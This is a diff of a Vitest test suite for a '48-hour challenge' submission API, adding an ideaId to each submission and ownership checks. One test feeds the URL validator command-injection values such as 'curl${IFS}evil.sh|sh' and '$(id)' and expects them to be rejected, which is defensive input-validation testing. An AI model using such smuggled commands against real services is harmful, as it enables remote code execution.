@@ -1,8 +1,11 @@
+import { randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createClock } from '../../lib/clock';
-import { challenges } from '../../db/schema/index';
+import { eq } from 'drizzle-orm';
+import { challenges, ideas } from '../../db/schema/index';
 import { createTestApp, type TestContext } from '../../../test/helpers/test-app';
 import { bearer, signUp } from '../../../test/helpers/sign-in';
+import { submitIdea } from '../../../test/helpers/factories';
 import { createChallenge } from './challenges.service';
 
 const clock = createClock();
@@ -13,14 +16,18 @@ beforeAll(async () => {
 afterAll(() => ctx.close());
 
 let people = 0;
+/** A founder with one idea (an investor has none), ready to ship it. */
 const founder = async (role: 'FOUNDER' | 'INVESTOR' = 'FOUNDER') => {
   people += 1;
-  return signUp(ctx.app, { email: `ch${people}@example.com`, name: `Challenger ${people}`, role });
+  const person = await signUp(ctx.app, { email: `ch${people}@example.com`, name: `Challenger ${people}`, role });
+  const ideaId = role === 'FOUNDER' ? (await submitIdea(ctx.app, person.token, { title: `Challenger ${people} idea` })).id : randomUUID();
+  return { ...person, ideaId };
 };
 const current = async (token: string) => (await ctx.app.inject({ url: '/api/challenges/current', headers: bearer(token) })).json();
 const post = (token: string, url: string, payload?: object) =>
   ctx.app.inject({ method: 'POST', url, headers: bearer(token), ...(payload ? { payload } : {}) });
 const repo = { githubUrl: 'https://github.com/ada/seedbank', hasReadme: true, liveUrl: 'https://seedbank.dev' };
+const mine = (me: { ideaId: string }) => ({ ...repo, ideaId: me.ideaId });
 
 describe('the 48-hour challenge', () => {
   it('always has a current challenge, running for 48 hours', async () => {
@@ -38,15 +45,15 @@ describe('the 48-hour challenge', () => {
     expect(joined.json()).toMatchObject({ message: 'You joined the challenge!', challenge: { me: { joined: true } } });
     expect((await post(me.token, `/api/challenges/${id}/join`)).json().message).toBe('You are already in this challenge.');
 
-    const early = await post(me.token, `/api/challenges/${id}/submit`, repo);
+    const early = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
     expect(early.statusCode).toBe(400);
     expect(early.json().error).toBe('You can submit your MVP 30 minutes after joining.');
 
     clock.advance(31 * 60_000);
-    const submitted = await post(me.token, `/api/challenges/${id}/submit`, repo);
+    const submitted = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
     expect(submitted.statusCode).toBe(201);
     expect(submitted.json().submission).toMatchObject({ credits: 110, hasReadme: true, liveUrl: 'https://seedbank.dev' });
-    const again = await post(me.token, `/api/challenges/${id}/submit`, repo);
+    const again = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
     expect(again.statusCode).toBe(409);
     expect((await post(me.token, `/api/challenges/${id}/leave`)).statusCode).toBe(400);
   });
@@ -56,11 +63,11 @@ describe('the 48-hour challenge', () => {
     const { id } = await current(me.token);
     await post(me.token, `/api/challenges/${id}/join`);
     for (const [body, message] of [
-      [{}, 'githubUrl'],
-      [{ githubUrl: '' }, 'GitHub URL is required'],
-      [{ githubUrl: 'https://example.com/x' }, 'GitHub URL must be a link to a repository'],
-      [{ ...repo, liveUrl: 'ftp://x' }, 'Live URL must be a web address'],
-      [{ ...repo, hasReadme: 'yes' }, 'hasReadme'],
+      [{ ideaId: me.ideaId }, 'githubUrl'],
+      [{ ideaId: me.ideaId, githubUrl: '' }, 'GitHub URL is required'],
+      [{ ideaId: me.ideaId, githubUrl: 'https://example.com/x' }, 'GitHub URL must be a link to a repository'],
+      [{ ...mine(me), liveUrl: 'ftp://x' }, 'Live URL must be a web address'],
+      [{ ...mine(me), hasReadme: 'yes' }, 'hasReadme'],
     ] as const) {
       const response = await post(me.token, `/api/challenges/${id}/submit`, body);
       expect(response.statusCode).toBe(400);
@@ -74,17 +81,47 @@ describe('the 48-hour challenge', () => {
     await post(me.token, `/api/challenges/${id}/join`);
     clock.advance(31 * 60_000);
     for (const githubUrl of ['https://github.com/ada/seed;curl${IFS}evil.sh|sh', 'https://github.com/ada/seed?x=$(id)', 'https://github.com/ada/seed/tree/main']) {
-      const response = await post(me.token, `/api/challenges/${id}/submit`, { ...repo, githubUrl });
+      const response = await post(me.token, `/api/challenges/${id}/submit`, { ...mine(me), githubUrl });
       expect({ status: response.statusCode, body: response.json() }).toEqual({
         status: 400,
         body: { error: 'Invalid request. githubUrl: GitHub URL must be a link to a repository: https://github.com/owner/repo' },
       });
     }
-    const insecure = await post(me.token, `/api/challenges/${id}/submit`, { ...repo, liveUrl: 'http://seedbank.dev' });
+    const insecure = await post(me.token, `/api/challenges/${id}/submit`, { ...mine(me), liveUrl: 'http://seedbank.dev' });
     expect(insecure.json()).toEqual({ error: 'Invalid request. liveUrl: Live URL must be a web address starting with https://' });
     expect((await current(me.token)).me.submission).toBeNull();
-    const submitted = await post(me.token, `/api/challenges/${id}/submit`, { ...repo, githubUrl: 'https://github.com/ada/seed.git' });
+    const submitted = await post(me.token, `/api/challenges/${id}/submit`, { ...mine(me), githubUrl: 'https://github.com/ada/seed.git' });
     expect(submitted.json().submission.githubUrl).toBe('https://github.com/ada/seed');
+  });
+
+  it('ships the idea the founder chose, and only one of their own that still exists', async () => {
+    const me = await founder();
+    const other = await founder();
+    const investor = await founder('INVESTOR');
+    const newest = await submitIdea(ctx.app, me.token, { title: 'Newest idea, not the one shipped' });
+    const { id } = await current(me.token);
+    await post(me.token, `/api/challenges/${id}/join`);
+    await post(investor.token, `/api/challenges/${id}/join`);
+    clock.advance(31 * 60_000);
+    // A deleted idea: the row is gone (decks and feeds no longer have it).
+    const gone = (await submitIdea(ctx.app, me.token, { title: 'Deleted idea' })).id;
+    await ctx.database.db.delete(ideas).where(eq(ideas.id, gone));
+    for (const [ideaId, status, error] of [
+      ['not-an-id', 400, 'Invalid request. ideaId: Choose which of your ideas this MVP ships'],
+      [gone, 404, 'Idea not found'],
+      [other.ideaId, 403, 'You can only submit an MVP for one of your own ideas.'],
+    ] as const) {
+      const response = await post(me.token, `/api/challenges/${id}/submit`, { ...repo, ideaId });
+      expect({ status: response.statusCode, body: response.json() }).toEqual({ status, body: { error } });
+    }
+    const asInvestor = await post(investor.token, `/api/challenges/${id}/submit`, { ...repo, ideaId: newest.id });
+    expect({ status: asInvestor.statusCode, body: asInvestor.json() }).toEqual({ status: 403, body: { error: 'Only founders can submit an MVP.' } });
+    expect((await current(me.token)).me.submission).toBeNull();
+
+    const submitted = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
+    expect(submitted.statusCode).toBe(201);
+    expect(submitted.json().submission.ideaId).toBe(me.ideaId);
+    expect((await current(me.token)).me.submission.ideaId).toBe(me.ideaId);
   });
 
   it('lets a participant leave before submitting, and keeps outsiders and investors from submitting', async () => {
@@ -92,7 +129,7 @@ describe('the 48-hour challenge', () => {
     const investor = await founder('INVESTOR');
     const { id } = await current(me.token);
     expect((await post(investor.token, `/api/challenges/${id}/join`)).statusCode).toBe(403);
-    expect((await post(me.token, `/api/challenges/${id}/submit`, repo)).statusCode).toBe(403);
+    expect((await post(me.token, `/api/challenges/${id}/submit`, mine(me))).statusCode).toBe(403);
     await post(me.token, `/api/challenges/${id}/join`);
     const left = await post(me.token, `/api/challenges/${id}/leave`);
     expect(left.json()).toMatchObject({ message: 'You left the challenge.', challenge: { me: { joined: false } } });
@@ -113,7 +150,7 @@ describe('the 48-hour challenge', () => {
     const first = await current(me.token);
     await post(me.token, `/api/challenges/${first.id}/join`);
     clock.advance(49 * 3600_000);
-    const late = await post(me.token, `/api/challenges/${first.id}/submit`, repo);
+    const late = await post(me.token, `/api/challenges/${first.id}/submit`, mine(me));
     expect(late.statusCode).toBe(400);
     expect(late.json().error).toBe('Submissions are open only while the challenge is live.');
     expect((await post(me.token, `/api/challenges/${first.id}/join`)).json().error).toBe('This challenge has ended.');
